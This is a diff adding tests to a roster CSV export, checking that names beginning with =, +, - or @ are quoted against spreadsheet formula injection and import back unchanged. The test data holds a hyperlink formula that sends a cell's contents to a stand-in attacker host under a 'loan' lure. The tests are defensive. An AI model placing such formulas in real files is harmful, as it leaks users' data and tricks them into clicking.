@@ -354,6 +354,43 @@ async def test_export_round_trips_through_import(database: Database) -> None:
         assert await RosterRepository(uow.session).entries() == before
 
 
+async def test_names_that_look_like_formulas_are_quoted_and_import_back_unchanged(
+    database: Database,
+) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Click for your loan")'
+    async with database.transaction() as uow:
+        group = await uow.groups.create("-Market Peers", "Africa/Nairobi", "sw", "KES", at=T0)
+        linked = await uow.members.create("whatsapp", "+254712345678", "sw", "KES", at=T0)
+        await uow.members.update(linked.id, name=hyperlink, at=T0)
+        await uow.members.join_group(linked.id, group.id, T0)
+        handle = await uow.members.create("telegram", "7000000009", "en", None, at=T0)
+        await uow.members.update(handle.id, name="@amina", at=T0)
+        quoted = await uow.members.create("telegram", "7000000010", "en", None, at=T0)
+        await uow.members.update(quoted.id, name="'+1 for Grace", at=T0)
+        export = await export_members(uow)
+        before = await RosterRepository(uow.session).entries()
+    text = decode_members_file(members_csv(export.rows))
+    assert text.splitlines()[1:] == [
+        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for your loan"")",'
+        f"+254712345678,,'-Market Peers,sw,{linked.id},no,no",
+        f"'@amina,,7000000009,,en,{handle.id},no,no",
+        f"''+1 for Grace,,7000000010,,en,{quoted.id},no,no",
+    ]
+    planned = await plan(database, text, apply=True)
+    assert counts(planned) == (0, 0, 3, 0)
+    async with database.transaction() as uow:
+        assert await RosterRepository(uow.session).entries() == before
+
+
+def test_an_export_quote_is_taken_off_a_hand_written_file_too() -> None:
+    parsed = parse(HEADER + "'=Amina,'+254712345678,,,en\n" + "O'Brien,,7000000001,,\n")
+    assert parsed.errors == ()
+    assert [(row.name, row.phone) for row in parsed.rows] == [
+        ("=Amina", "+254712345678"),
+        ("O'Brien", None),
+    ]
+
+
 def test_row_error_text() -> None:
     assert str(RowError(4, "bad")) == "line 4: bad"
 
